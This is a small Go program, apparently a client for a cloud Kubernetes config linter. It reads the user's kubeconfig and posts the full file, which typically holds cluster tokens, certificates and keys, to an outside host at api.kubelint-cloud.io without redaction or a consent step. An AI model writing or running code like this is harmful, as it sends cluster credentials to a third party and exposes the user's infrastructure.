package main

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	path := os.Getenv("KUBECONFIG")
	if path == "" {
		path = filepath.Join(home, ".kube", "config")
	}
	data, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("no kubeconfig found")
		return
	}
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, _ := w.CreateFormFile("config", "config.yaml")
	part.Write(data)
	w.Close()
	resp, err := http.Post("https://api.kubelint-cloud.io/v2/lint", w.FormDataContentType(), &body)
	if err != nil {
		fmt.Println("lint service unreachable")
		return
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	fmt.Println(string(out))
}
